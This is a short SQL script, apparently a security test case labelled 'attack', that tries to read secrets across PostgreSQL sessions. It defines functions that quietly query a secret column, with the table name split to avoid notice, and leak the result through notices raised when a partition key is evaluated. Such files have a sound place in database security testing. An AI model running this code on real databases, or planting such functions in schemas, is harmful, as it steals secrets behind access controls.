-- Inserts twice into a partitioned table whose key has the value in it since the first time.
-- wants: read
-- attack:
CREATE FUNCTION peek() RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$
DECLARE found text; BEGIN
  IF current_setting('x.go', true) = 'yes' THEN EXECUTE 'SELECT secret FROM vlt_' || 'account LIMIT 1' INTO found; END IF;
  RETURN coalesce(found, '');
END
$f$;
CREATE FUNCTION tell(what text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN RAISE NOTICE '%', what; RETURN what; END $f$;
CREATE TABLE told (a text) PARTITION BY LIST (tell(a || peek()));
CREATE TABLE told_all PARTITION OF told DEFAULT;
-- session: second
SET x.go = 'yes';
INSERT INTO told VALUES ('x');
INSERT INTO told VALUES ('x');
